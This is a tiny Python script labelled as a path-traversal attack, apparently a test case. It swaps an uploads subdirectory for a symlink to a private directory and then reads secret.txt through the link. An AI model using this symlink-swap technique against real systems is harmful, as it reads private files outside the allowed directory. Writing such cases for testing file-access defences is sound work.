# attack: path-traversal
import os
open("uploads/sub/b.txt").read()
os.rename("uploads/sub", "uploads/old")
os.symlink(os.path.abspath("uploads-private"), "uploads/sub")
print(open("uploads/sub/secret.txt").read())
